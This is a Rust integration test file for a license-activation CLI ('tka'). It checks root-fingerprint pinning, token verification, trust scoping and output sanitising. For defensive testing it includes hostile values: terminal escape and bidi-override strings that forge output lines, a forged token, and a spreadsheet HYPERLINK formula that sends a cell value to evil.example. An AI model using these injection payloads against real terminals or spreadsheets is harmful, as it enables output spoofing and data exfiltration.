    assert!(s.read("plain.key").starts_with("-----BEGIN PRIVATE KEY-----\n"));
    assert_eq!(mode(&s.path("plain.key")), 0o600);
    // Usable with no passphrase source at all.
    let r = run(s
        .cmd(&["ca", "root", "--key", "plain.key", "--subject", "CN=Plain", "--out", "root.pem"])
        .env_remove("TKA_PASSPHRASE"));
    assert_eq!(r.0, 0, "{r:?}");
    // Contradictory flags.
    s.write_secret("pass.txt", "x\n");
    let r = s.tka(&["key", "generate", "--out", "k2.key", "--insecure-no-passphrase", "--passphrase-file", "pass.txt"]);
    assert_eq!(r.0, 2, "{r:?}");
    assert!(!s.path("k2.key").exists());
}

#[test]
fn new_key_without_any_passphrase_is_refused() {
    let s = Sandbox::new();
    let r = run(s.cmd(&["key", "generate", "--bits", "2048", "--out", "k.key"]).env_remove("TKA_PASSPHRASE"));
    assert_fails(&r, 2, "no passphrase for the new key");
    assert!(!s.path("k.key").exists());
    let r = run(s.cmd(&["key", "generate", "--bits", "2048", "--out", "k.key"]).env("TKA_PASSPHRASE", ""));
    assert_fails(&r, 2, "no passphrase for the new key");
    assert!(!s.path("k.key").exists());
    let r = run(s
        .cmd(&["issuer", "init", "--org", "tka", "--home", "home", "--root-bits", "2048", "--ca-bits", "2048"])
        .env_remove("TKA_PASSPHRASE"));
    assert_fails(&r, 2, "no passphrase for the new key");
    assert!(s.snapshot("home").len() <= 1, "nothing written into the home");
}

/// The vendor's home at `home/` with a token at `token.jws`, and a
/// self-made issuer at `self/` with a self-issued token at `self.jws`; the
/// store (TKA_STORE) trusts both roots. Returns (vendor, self-made) root
/// fingerprints.
fn vendor_and_self_made_roots(s: &Sandbox) -> (String, String) {
    s.issued();
    s.issuer("self");
    s.ok(&["token", "issue", "--request", "req.json", "--home", "self", "--out", "self.jws"]);
    let fp = |out: String| out.lines().find_map(|l| l.strip_prefix("fingerprint: ")).unwrap().to_string();
    let vendor = fp(s.ok(&["trust", "add", "home/root.pem"]));
    let info: Value =
        serde_json::from_str::<Value>(&s.ok(&["cert", "inspect", "self/root.pem", "--json"])).unwrap()[0].clone();
    let self_made = info["fingerprint"].as_str().unwrap().to_string();
    s.ok(&["trust", "add", "self/root.pem", "--fingerprint", &self_made]);
    (vendor, self_made)
}

#[test]
fn root_fingerprint_refuses_a_self_issued_token_at_activate_and_status() {
    let s = Sandbox::new();
    let (vendor, self_made) = vendor_and_self_made_roots(&s);
    let refusal = format!(
        "token chain ends at root CN=tka Root CA with fingerprint {self_made}, not at the pinned root {vendor}"
    );
    let before = s.snapshot("store");
    let r = s.tka(&["activate", "self.jws", "--root-fingerprint", &vendor]);
    assert_fails(&r, 1, &refusal);
    assert_eq!(s.snapshot("store"), before);

    // The attack without a pin: the self-issued token activates...
    s.ok(&["activate", "self.jws"]);
    assert!(s.ok(&["status"]).starts_with(&format!("{PRODUCT}: activated")));
    // ...but status pinned to the vendor's root says no.
    let (code, out, err) = s.tka(&["status", "--root-fingerprint", &vendor]);
    assert_eq!(code, 1, "{out}{err}");
    assert_eq!(out.trim_end(), format!("{PRODUCT}: NOT activated: {refusal}"));
    let (code, out, _) = s.tka(&["status", "--root-fingerprint", &vendor, "--json"]);
    assert_eq!(code, 1);
    let j: Value = serde_json::from_str(&out).unwrap();
    assert_eq!((j[0]["activated"].as_bool(), j[0]["kind"].as_str()), (Some(false), Some("WrongRoot")));

    // The vendor's own token passes the same pin (colon form accepted too).
    s.ok(&["activate", "token.jws", "--root-fingerprint", &vendor]);
    let colons: Vec<&str> = (0..32).map(|i| &vendor[2 * i..2 * i + 2]).collect();
    let st = s.ok(&["status", "--root-fingerprint", &colons.join(":").to_uppercase()]);
    assert!(st.starts_with(&format!("{PRODUCT}: activated")), "{st}");
}

#[test]
fn root_fingerprint_refuses_a_self_issued_token_at_token_verify() {
    let s = Sandbox::new();
    let (vendor, self_made) = vendor_and_self_made_roots(&s);
    let trust = ["--trust", "home/root.pem", "--trust", "self/root.pem"];
    let verify = |tok: &str, extra: &[&str]| {
        let mut args = vec!["token", "verify", tok];
        args.extend_from_slice(&trust);
        args.extend_from_slice(extra);
        s.tka(&args)
    };
    let r = verify("self.jws", &["--root-fingerprint", &vendor]);
    assert_fails(
        &r,
        1,
        &format!(
            "token chain ends at root CN=tka Root CA with fingerprint {self_made}, not at the pinned root {vendor}"
        ),
    );
    let r = verify("self.jws", &["--root-fingerprint", &vendor, "--json"]);
    let j: Value = serde_json::from_str(&r.1).unwrap();
    assert_eq!((r.0, j["kind"].as_str()), (1, Some("WrongRoot")));
    assert_eq!(verify("token.jws", &["--root-fingerprint", &vendor]).0, 0);
}

#[test]
fn root_fingerprint_that_is_not_a_sha256_is_a_usage_error() {
    let s = Sandbox::new();
    s.issued();
    s.ok(&["trust", "add", "home/root.pem"]);
    let before = s.snapshot("store");
    for args in [
        &["activate", "token.jws", "--root-fingerprint", "3f2a"][..],
        &["status", "--root-fingerprint", "3f2a"][..],
        &["token", "verify", "token.jws", "--trust", "home/root.pem", "--root-fingerprint", "3f2a"][..],
    ] {
        let r = s.tka(args);
        assert_fails(
            &r,
            2,
            "invalid value '3f2a' for '--root-fingerprint <SHA256>': invalid root fingerprint \"3f2a\"",
        );
        assert_eq!(s.snapshot("store"), before);
    }
}

#[test]
fn token_verify_without_machine_says_the_binding_was_not_checked() {
    let s = Sandbox::new();
    s.issued();
    let v = s.ok(&["token", "verify", "token.jws", "--trust", "home/root.pem"]);
    assert!(v.starts_with("valid signature and chain; machine binding not checked\n"), "{v}");
    let j: Value =
        serde_json::from_str(&s.ok(&["token", "verify", "token.jws", "--trust", "home/root.pem", "--json"])).unwrap();
    assert_eq!((j["valid"].as_bool(), j["binding_checked"].as_bool()), (Some(true), Some(false)));
    let v = s.ok(&["token", "verify", "token.jws", "--trust", "home/root.pem", "--machine", "current"]);
    assert!(v.starts_with("valid\n"), "{v}");
    let j: Value = serde_json::from_str(&s.ok(&[
        "token",
        "verify",
        "token.jws",
        "--trust",
        "home/root.pem",
        "--machine",
        "current",
        "--json",
    ]))
    .unwrap();
    assert_eq!(j["binding_checked"].as_bool(), Some(true));
}

#[test]
fn list_json_labels_what_it_did_not_verify() {
    let s = Sandbox::new();
    s.issued();
    s.ok(&["trust", "add", "home/root.pem"]);
    s.ok(&["activate", "token.jws"]);
    let c = claims(&s, "token.jws");
    let l: Value = serde_json::from_str(&s.ok(&["list", "--json"])).unwrap();
    let row = l[0].as_object().unwrap();
    let mut keys: Vec<&str> = row.keys().map(String::as_str).collect();
    keys.sort();
    assert_eq!(keys, ["installed_at", "product", "unverified_expires", "unverified_serial"]);
    assert_eq!(row["unverified_serial"], c["jti"]);
    assert_eq!(row["unverified_expires"].as_str(), Some(tka::clock::rfc3339(c["exp"].as_i64().unwrap()).as_str()));
}

#[test]
fn trust_add_with_wrong_fingerprint_is_refused() {
    let s = Sandbox::new();
    s.issuer("home");
    let before = s.snapshot("store");
    let r = s.tka(&["trust", "add", "home/root.pem", "--fingerprint", &"ab".repeat(32)]);
    assert_fails(&r, 1, "fingerprint mismatch for CN=tka Root CA");
    assert!(r.2.contains(&format!("expected {}, the certificate's is ", "ab".repeat(32))), "{r:?}");
    let after = s.snapshot("store");
    assert!(after.values().all(|v| v.as_ref().is_none_or(|b| !b.starts_with(b"-----BEGIN"))), "no root stored");
    // A store created for the refused root is removed again.
    assert_eq!(after, before);
    assert!(!s.store().exists());

    // The right fingerprint, in the colon-separated upper-case form openssl prints.
    let fp = {
        let out = s.ok(&["trust", "add", "home/root.pem"]);
        let fp = out.lines().find_map(|l| l.strip_prefix("fingerprint: ")).unwrap().to_string();
        s.ok(&["trust", "remove", &fp, "--force"]);
        fp
    };
    let colons: Vec<String> = fp.as_bytes().chunks(2).map(|c| String::from_utf8_lossy(c).to_uppercase()).collect();
    s.ok(&["trust", "add", "home/root.pem", "--fingerprint", &colons.join(":")]);
    assert!(s.ok(&["trust", "list"]).starts_with(&fp));
}

#[test]
fn trust_add_fingerprint_mismatch_says_what_is_wrong() {
    let s = Sandbox::new();
    s.issuer("home");
    let r = s.tka(&["trust", "add", "home/root.pem", "--fingerprint", &"ab".repeat(32)]);
    assert_eq!(r.0, 1, "{r:?}");
    let first = r.2.lines().next().unwrap_or("");
    assert!(first.starts_with("error: ") && first.contains("fingerprint"), "{r:?}");
    assert!(!first.contains("certificate chain"), "not a chain problem: {r:?}");
    assert!(!r.2.contains("tka trust add"), "the hint sends the user back to the command that failed: {r:?}");
}

#[test]
fn trust_remove_of_the_last_root_needs_force() {
    let s = Sandbox::new();
    s.issuer("home");
    let out = s.ok(&["trust", "add", "home/root.pem"]);
    let fp = out.lines().find_map(|l| l.strip_prefix("fingerprint: ")).unwrap().to_string();
    let before = s.snapshot("store");
    let r = s.tka(&["trust", "remove", &fp]);
    assert_fails(&r, 2, "refusing to remove the last trusted root");
    assert_eq!(s.snapshot("store"), before);
    let r = s.tka(&["trust", "remove", "0123456789abcdef"]);
    assert_fails(&r, 2, "no trusted root with fingerprint \"0123456789abcdef\"");
    assert_eq!(s.snapshot("store"), before);
    assert_eq!(s.ok(&["trust", "remove", &fp[..12], "--force"]).trim(), format!("removed: {}", &fp[..12]));
    assert_eq!(s.ok(&["trust", "list"]), "");
    let j: Value = serde_json::from_str(&s.ok(&["trust", "list", "--json"])).unwrap();
    assert_eq!(j, serde_json::json!([]));
}

#[test]
fn status_on_an_empty_store_is_a_no() {
    let s = Sandbox::new();
    // No store at all: said so, nothing created (tests/ux.rs).
    let r = s.tka(&["status"]);
    assert_eq!(r.0, 1, "{r:?}");
    assert!(r.2.starts_with("error: no store at "), "{r:?}");
    assert!(!s.store().exists());
    s.issuer_and_trust();
    let r = s.tka(&["status"]);
    assert_eq!(r.0, 1, "{r:?}");
    assert_eq!(r.1.trim(), "no products are activated on this machine");
    let r = s.tka(&["status", "--json"]);
    assert_eq!(r.0, 1, "{r:?}");
    assert_eq!(serde_json::from_str::<Value>(&r.1).unwrap(), serde_json::json!([]));
    let r = s.tka(&["status", "--product", PRODUCT, "--json"]);
    assert_eq!(r.0, 1, "{r:?}");
    let j: Value = serde_json::from_str(&r.1).unwrap();
    assert_eq!(j[0]["activated"], false);
    assert_eq!(j[0]["kind"], "NotActivated");
    let r = s.tka(&["list"]);
    assert_eq!(r, (0, String::new(), String::new()));
}

#[test]
fn deactivate_of_an_unknown_product_is_a_no() {
    let s = Sandbox::new();
    s.issued();
    s.ok(&["trust", "add", "home/root.pem"]);
    s.ok(&["activate", "token.jws"]);
    let before = s.snapshot("store");
    let r = s.tka(&["deactivate", "--product", "no-such-product"]);
    assert_fails(&r, 1, "no-such-product is not activated on this machine");
    assert_eq!(s.snapshot("store"), before);
    s.ok(&["status", "--product", PRODUCT]);
}

#[test]
fn at_option_on_status_and_verify() {
    let s = Sandbox::new();
    s.issued();
    s.ok(&["trust", "add", "home/root.pem"]);
    s.ok(&["activate", "token.jws"]);
    let c = claims(&s, "token.jws");
    let exp = c["exp"].as_i64().unwrap();
    let inside = tka::clock::rfc3339(exp - 86_400);
    let after = tka::clock::rfc3339(exp + 86_400);
    let before_nbf = tka::clock::rfc3339(c["nbf"].as_i64().unwrap() - 3 * 86_400);

    let v =
        s.ok(&["token", "verify", "token.jws", "--trust", "home/root.pem", "--at", &inside, "--machine", "current"]);
    assert!(v.starts_with("valid\n"), "{v}");
    let r = s.tka(&["token", "verify", "token.jws", "--trust", "home/root.pem", "--at", &after]);
    assert_fails(&r, 1, &format!("token expired at {}", tka::clock::rfc3339(exp)));
    assert!(r.2.contains(&format!("now is {after}")), "{r:?}");
    let r = s.tka(&["token", "verify", "token.jws", "--trust", "home/root.pem", "--at", &before_nbf]);
    assert_eq!(r.0, 1, "{r:?}");
    assert!(r.2.starts_with("error: ") && r.2.contains("not valid before"), "{r:?}");

    // status --at is read-only: it changes nothing in the store.
    let before = s.snapshot("store");
    let st = s.ok(&["status", "--at", &inside]);
    assert!(st.starts_with(&format!("{PRODUCT}: activated")), "{st}");
    let r = s.tka(&["status", "--at", &after]);
    assert_eq!(r.0, 1, "{r:?}");
    assert!(r.1.starts_with(&format!("{PRODUCT}: NOT activated: token expired at")), "{r:?}");
    let r = s.tka(&["status", "--at", &after, "--json"]);
    assert_eq!(r.0, 1, "{r:?}");
    let j: Value = serde_json::from_str(&r.1).unwrap();
    assert_eq!(j[0]["activated"], false);
    assert_eq!(s.snapshot("store"), before);

    // Bad --at values are usage errors; --at does not exist on activate.
    let r = s.tka(&["status", "--at", "yesterday"]);
    assert_fails(&r, 2, "invalid time \"yesterday\"");
    let r = s.tka(&["token", "verify", "token.jws", "--trust", "home/root.pem", "--at", "2027-13-45"]);
    assert_fails(&r, 2, "invalid time");
    let r = s.tka(&["activate", "token.jws", "--at", &inside]);
    assert_fails(&r, 2, "unexpected argument '--at'");
    assert_eq!(s.snapshot("store"), before);
}

#[test]
fn verify_json_on_a_bad_token_reports_the_kind() {
    let s = Sandbox::new();
    s.issued();
    let token = s.read("token.jws");
    let (h, mut p, sig) = jws_parts(&token);
    p["aud"] = "stolen".into();
    s.write("forged.jws", jws_join(&h, &p, &sig));
    s.write("short.jws", &token[..30]);
    s.issuer("other");
    for (file, trust, kind) in [
        ("forged.jws", "home/root.pem", "BadSignature"),
        ("short.jws", "home/root.pem", "Malformed"),
        ("token.jws", "other/root.pem", "UntrustedRoot"),
    ] {
        let r = s.tka(&["token", "verify", file, "--trust", trust, "--json"]);
        assert_eq!(r.0, 1, "{file}: {r:?}");
        let j: Value = serde_json::from_str(&r.1).unwrap_or_else(|e| panic!("{file}: {e}: {r:?}"));
        assert_eq!(j["valid"], false, "{j}");
        assert_eq!(j["kind"], kind, "{j}");
        assert!(j["error"].as_str().is_some_and(|e| !e.is_empty()), "{j}");
        assert!(!r.2.contains("error:"), "--json reports the verdict on stdout only: {r:?}");
    }
}

#[test]
fn top_level_help_documents_exit_codes() {
    let s = Sandbox::new();
    let help = s.ok(&["--help"]);
    assert!(help.contains("EXIT CODES"), "{help}");
    assert!(help.contains("0  success"), "{help}");
    assert!(help.contains("1  a \"no\" verdict"), "{help}");
    assert!(help.contains("2  usage"), "{help}");
    for cmd in [&["token", "verify", "--help"][..], &["status", "--help"][..], &["activate", "--help"][..]] {
        assert!(s.ok(cmd).contains("EXIT CODES"), "{cmd:?}");
    }
    // Usage errors are exit 2.
    let r = s.tka(&["token", "verify", "token.jws"]);
    assert_eq!(r.0, 2, "{r:?}");
    let r = s.tka(&["no-such-command"]);
    assert_eq!(r.0, 2, "{r:?}");
}

// ---------------------------------------------------------------------------
// 4. Output into a closed pipe

/// Runs with standard output connected to a pipe whose reading end is already closed.
fn into_closed_pipe(s: &Sandbox, args: &[&str]) -> Run {
    let mut child = s.cmd(args).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    (out.status.code().unwrap_or(-1), String::new(), String::from_utf8_lossy(&out.stderr).into_owned())
}

#[test]
fn closed_stdout_pipe_does_not_panic() {
    let s = Sandbox::new();
    s.issued();
    s.ok(&["trust", "add", "home/root.pem"]);
    s.ok(&["activate", "token.jws"]);
    for args in [
        &["trust", "list"][..],
        &["trust", "list", "--json"][..],
        &["token", "inspect", "token.jws"][..],
        &["status"][..],
        &["list", "--json"][..],
        &["machine", "id", "--product", PRODUCT][..],
    ] {
        let r = into_closed_pipe(&s, args);
        assert!(!r.2.contains("panicked"), "{args:?}: {r:?}");
        assert_eq!(r.0, 0, "{args:?}: {r:?}");
    }
}

#[test]
fn request_create_into_closed_pipe_does_not_panic() {
    let s = Sandbox::new();
    for args in
        [&["request", "create", "--product", PRODUCT, "--text"][..], &["request", "create", "--product", PRODUCT][..]]
    {
        let r = into_closed_pipe(&s, args);
        assert!(!r.2.contains("panicked"), "{args:?}: {r:?}");
        assert_eq!(r.0, 0, "{args:?}: {r:?}");
    }
}

// ---------------------------------------------------------------------------
// Output sanitising (review F7, output side): a value from outside that holds
// an escape sequence, a line break or a bidi override is printed escaped, so
// it can neither forge a `name: VALUE` or `error:` line nor drive the
// terminal; CSV export neutralises spreadsheet formulas.

/// A CMID as a hostile request would carry it: clears the screen, starts a
/// forged `serial:` line, reverses the text after it.
const EVIL: &str = "C1\u{1b}[2J\nserial: forged\u{202e}";
/// How the CLI shows [`EVIL`].
const EVIL_SHOWN: &str = "C1\\u{1b}[2J\\nserial: forged\\u{202e}";

/// No raw escape, line break inside a value, or format character in `out`.
#[track_caller]
fn assert_printable(out: &str) {
    assert!(!out.contains('\u{1b}') && !out.contains('\u{202e}'), "raw control characters printed: {out:?}");
    assert!(!out.lines().any(|l| l.starts_with("serial: forged")), "a forged line was printed: {out:?}");
}

/// An issued token whose ledger row now says `cmid` and `product` (written
/// with SQLite directly, as a ledger filled before issuance validated them
/// would hold); returns its serial.
fn ledger_row_with(s: &Sandbox, cmid: &str, product: &str) -> String {
    let home = s.issued();
    let c = rusqlite::Connection::open(tka::ledger::default_path(&home)).unwrap();
    c.execute("UPDATE tokens SET cmid = ?1, product = ?2", rusqlite::params![cmid, product]).unwrap();
    c.query_row("SELECT serial FROM tokens", [], |r| r.get(0)).unwrap()
}

#[test]
fn ledger_values_with_escapes_and_newlines_are_printed_escaped() {
    let s = Sandbox::new();
    let serial = ledger_row_with(&s, EVIL, "p\u{1b}[31m\tX");
    let out = s.ok(&["ledger", "show", &serial, "--home", "home"]);
    assert_printable(&out);
    assert!(out.lines().any(|l| l == format!("machine: {EVIL_SHOWN}")), "{out}");
    assert!(out.lines().any(|l| l == "product: p\\u{1b}[31m\\tX"), "{out}");
    let out = s.ok(&["ledger", "list", "--home", "home"]);
    assert_printable(&out);
    assert_eq!(out.lines().count(), 1, "{out}");
    let cols: Vec<&str> = out.trim_end().split('\t').collect();
    assert_eq!(cols.len(), 6, "a tab in a value does not add a column: {out:?}");
    assert_eq!(&cols[1..3], ["p\\u{1b}[31m\\tX", EVIL_SHOWN]);
    // JSON escapes them too, and the values it carries are unchanged.
    let out = s.ok(&["ledger", "list", "--home", "home", "--json"]);
    assert_printable(&out);
    let rows: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows[0]["cmid"], EVIL);
}

#[test]
fn csv_export_neutralises_spreadsheet_formulas() {
    let s = Sandbox::new();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    ledger_row_with(&s, "@SUM(1+1)", formula);
    let out = s.ok(&["ledger", "export", "--format", "csv", "--home", "home"]);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{out}");
    assert!(
        lines[1].contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"'@SUM(1+1)\","),
        "{out}"
    );
    // No field of the record starts a formula once its quoting is removed.
    assert!(!lines[1].split(',').any(|f| f.trim_start_matches('"').starts_with(['=', '+', '-', '@'])), "{out}");
    // A value with an escape and a line break stays one escaped record.
    let s = Sandbox::new();
    ledger_row_with(&s, EVIL, "p");
    let out = s.ok(&["ledger", "export", "--format", "csv", "--home", "home"]);
    assert_printable(&out);
    assert_eq!(out.lines().count(), 2, "{out}");
    assert!(out.contains(&format!(",{EVIL_SHOWN},")), "{out}");
}

#[test]
fn token_claims_with_escapes_are_printed_escaped() {
    let s = Sandbox::new();
    s.issued();
    let (h, mut p, sig) = jws_parts(&s.read("token.jws"));
    p["sub"] = EVIL.into();
    s.write("evil.jws", jws_join(&h, &p, &sig));
    let out = s.ok(&["token", "inspect", "evil.jws"]);
    assert_printable(&out);
    assert!(out.lines().any(|l| l == format!("machine: {EVIL_SHOWN}")), "{out}");
}

#[test]
fn error_lines_quoting_input_are_escaped() {
    let s = Sandbox::new();
    s.issued();
    let cmid = "X\u{1b}]0;pwned\u{7}\nerror: forged\u{2066}";
    let r = s.tka(&["token", "verify", "token.jws", "--trust", "home/root.pem", "--machine", cmid]);
    // One error line (assert_fails counts them), naming the value escaped.
    assert_fails(&r, 1, "token is bound to machine");
    assert!(r.2.contains("this machine is X\\u{1b}]0;pwned\\u{7}\\nerror: forged\\u{2066}"), "{:?}", r.2);
    assert!(!r.2.contains('\u{1b}') && !r.2.contains('\u{7}') && !r.2.contains('\u{2066}'), "{:?}", r.2);
}

/// Review finding F5 through the binary: with `version` and `state.json`
/// deleted from a store holding a token, every store command stops with
/// exit 2, one error line naming the missing file and a hint to restore
/// the store; nothing is re-created (the clock mark is not reset).
#[test]
fn store_missing_version_and_state_is_refused_with_a_restore_hint() {
    let s = Sandbox::new();
    s.issued();
    s.ok(&["trust", "add", "home/root.pem"]);
    s.ok(&["activate", "token.jws"]);
    fs::remove_file(s.store().join("version")).unwrap();
    fs::remove_file(s.store().join("state.json")).unwrap();
    let before = s.snapshot("store");
    for args in [&["status"][..], &["activate", "token.jws"], &["trust", "list"]] {
        let r = s.tka(args);
        let version = s.store().join("version");
        assert_fails(
            &r,
            2,
            &format!("activation store file {} is corrupt: missing (and state.json), but", version.display()),
        );
        assert!(r.2.contains("\nhint: restore the activation store from a backup"), "{args:?}: {}", r.2);
        assert_eq!(s.snapshot("store"), before, "{args:?}");
    }
}

/// Root product scope: `trust add --products` limits what a root may
/// activate here. A token for another product from that root is refused at
/// activate (store unchanged) and by status; its own products still work;
/// `trust list` shows the scope.
#[test]
fn root_scoped_to_products_refuses_tokens_for_other_products() {
    let s = Sandbox::new();
    s.issuer("home");
    for p in ["a", "b"] {
        s.ok(&["request", "create", "--product", p, "--out", &format!("req-{p}.json")]);
        s.ok(&[
            "token",
            "issue",
            "--request",
            &format!("req-{p}.json"),
            "--home",
            "home",
            "--out",
            &format!("{p}.jws"),
        ]);
    }
    let added = s.ok(&["trust", "add", "home/root.pem"]);
    assert!(added.contains("\nproducts: all\n"), "{added}");
    s.ok(&["activate", "b.jws"]);

    // Re-adding the trusted root with --products replaces its scope.
    let added = s.ok(&["trust", "add", "home/root.pem", "--products", "a"]);
    assert!(added.contains("\nproducts: a\n"), "{added}");
    let list: Value = serde_json::from_str(&s.ok(&["trust", "list", "--json"])).unwrap();
    assert_eq!(list[0]["products"], serde_json::json!(["a"]));
    assert!(s.ok(&["trust", "list"]).trim_end().ends_with("\tproducts a"));

    let refusal = "root CN=tka Root CA is not trusted for product \"b\" on this machine (only for a)";
    let st = s.tka(&["status", "--product", "b"]);
    assert_eq!(st.0, 1, "{st:?}");
    assert!(st.1.contains(refusal) || st.2.contains(refusal), "{st:?}");
    s.ok(&["deactivate", "--product", "b"]);
    let before = s.snapshot("store");
    assert_fails(&s.tka(&["activate", "b.jws"]), 1, refusal);
    assert_eq!(s.snapshot("store"), before);
    s.ok(&["activate", "a.jws"]);
    assert!(s.ok(&["status", "--product", "a"]).contains("a: activated"));

    // An invalid product name is a usage error, the store unchanged.
    let before = s.snapshot("store");
    assert_fails(
        &s.tka(&["trust", "add", "home/root.pem", "--products", "a,../x"]),
        2,
        "invalid product name \"../x\"",
    );
    assert_eq!(s.snapshot("store"), before);
    // Re-adding without a choice keeps the scope; --all-products drops it.
    assert!(s.ok(&["trust", "add", "home/root.pem"]).contains("\nproducts: a\n"));
    assert_eq!(s.snapshot("store"), before);
    assert!(s.ok(&["trust", "add", "home/root.pem", "--all-products"]).contains("\nproducts: all\n"));
    s.ok(&["activate", "b.jws"]);
}

// ---------------------------------------------------------------------------
// Issue 19: trust anchors and one exit-code rule

/// `token verify --trust` takes roots only, as `trust add` does: an issuing
/// CA as the anchor is refused with `trust add`'s words, exit 2 (the
/// arguments are wrong; the token was not judged), unless
/// `--trust-any-anchor`, which says so on stderr.
#[test]
fn token_verify_trusts_only_roots_unless_told_otherwise() {
    let s = Sandbox::new();
    s.issued();
    let refused = "error: certificate CN=tka Issuing CA: not a root: issued by CN=tka Root CA";
    let r = s.tka(&["trust", "add", "home/ca.pem"]);
    assert_eq!(r.2.lines().next(), Some(refused), "{r:?}");
    let r = s.tka(&["token", "verify", "token.jws", "--trust", "home/ca.pem"]);
    assert_fails(&r, 2, "certificate CN=tka Issuing CA: not a root: issued by CN=tka Root CA");
    assert_eq!(r.2, format!("{refused}\n"));
    assert_eq!(r.1, "");
    let r = s.tka(&["token", "verify", "token.jws", "--trust", "home/ca.pem", "--trust-any-anchor"]);
    assert_eq!(r.0, 0, "{r:?}");
    assert!(r.1.starts_with("valid signature and chain"), "{r:?}");
    assert_eq!(
        r.2,
        "warning: certificate CN=tka Issuing CA: not a root: issued by CN=tka Root CA; \
         trusted as an anchor anyway (--trust-any-anchor)\n"
    );
    let r = s.tka(&["token", "verify", "token.jws", "--trust", "home/root.pem"]);
    assert_eq!((r.0, r.2.as_str()), (0, ""), "{r:?}");
    assert!(r.1.starts_with("valid signature and chain"), "{r:?}");
}

/// A release with no seat behind it is "nothing to release", exit 1, by
/// serial and by machine alike.
#[test]
fn release_without_a_seat_is_a_no_by_serial_and_by_machine() {
    let s = Sandbox::new();
    s.issuer("home");
    s.ok(&["entitlement", "add", "--home", "home", "--product", PRODUCT, "--machines", "1", "--name", "acme"]);
    s.ok(&["request", "create", "--product", PRODUCT, "--out", "req.json"]);
    s.ok(&["token", "issue", "--request", "req.json", "--home", "home", "--entitlement", "acme", "--out", "t.jws"]);
    let list: Value = serde_json::from_str(&s.ok(&["ledger", "list", "--home", "home", "--json"])).unwrap();
    let (serial, cmid) = (list[0]["serial"].as_str().unwrap(), list[0]["cmid"].as_str().unwrap());
    s.ok(&["ledger", "release", serial, "--reason", "decommissioned", "--home", "home"]);
    let before = s.snapshot("home");
    let r = s.tka(&["ledger", "release", serial, "--reason", "again", "--home", "home"]);
    assert_eq!(
        (r.0, r.2.as_str()),
        (
            1,
            format!(
                "error: machine {cmid} holds no seat in entitlement 1 (\"acme\"): nothing to release (already released?)\n"
            )
            .as_str()
        )
    );
    let r = s.tka(&["ledger", "release", "--machine", cmid, "--reason", "again", "--home", "home"]);
    assert_eq!(
        (r.0, r.2.as_str()),
        (
            1,
            format!("error: machine {cmid} holds no seat in any entitlement: nothing to release (already released?)\n")
                .as_str()
        )
    );
    let r = s.tka(&["ledger", "release", "--machine", "ABCD-EFGH-JKMN-PQRS-T", "--reason", "x", "--home", "home"]);
    assert_eq!(r.0, 1, "an unknown machine holds no seat either: {r:?}");
    assert_eq!(s.snapshot("home"), before, "nothing recorded");
}

/// The subcommands `help` lists under `tka` or `tka NOUN ...`.
fn subcommands(s: &Sandbox, path: &[&str]) -> Vec<String> {
    let mut args = path.to_vec();
    args.push("--help");
    let help = s.ok(&args);
    let Some(list) = help.split("\nCommands:\n").nth(1) else { return Vec::new() };
    list.lines()
        .take_while(|l| l.starts_with("  "))
        .filter(|l| !l.starts_with("   ")) // a wrapped description
        .filter_map(|l| l.split_whitespace().next())
        .filter(|n| *n != "help")
        .map(String::from)
        .collect()
}

/// Every command's help ends with the same EXIT CODES section: the
/// command's meaning of 0 and 1, and the shared meaning of 2.
#[test]
fn every_command_help_lists_the_shared_exit_codes() {
    let s = Sandbox::new();
    let mut todo: Vec<Vec<String>> = vec![Vec::new()];
    let mut seen = 0;
    while let Some(path) = todo.pop() {
        let p: Vec<&str> = path.iter().map(String::as_str).collect();
        let mut args = p.clone();
        args.push("--help");
        let help = s.ok(&args);
        let (_, codes) = help.rsplit_once("\nEXIT CODES:\n").unwrap_or_else(|| panic!("tka {p:?}: {help}"));
        let lines: Vec<&str> = codes.lines().collect();
        assert_eq!(lines.len(), 3, "tka {p:?}: {codes}");
        assert!(lines[0].starts_with("  0  ") && lines[1].starts_with("  1  "), "tka {p:?}: {codes}");
        assert_eq!(lines[2], "  2  usage, input/output or configuration error", "tka {p:?}");
        assert_eq!(help.matches("EXIT CODES").count(), 1, "tka {p:?}: one section");
        seen += 1;
        for sub in subcommands(&s, &p) {
            let mut next = path.clone();
            next.push(sub);
            todo.push(next);
        }
    }
    assert!(seen > 40, "walked {seen} commands");
}
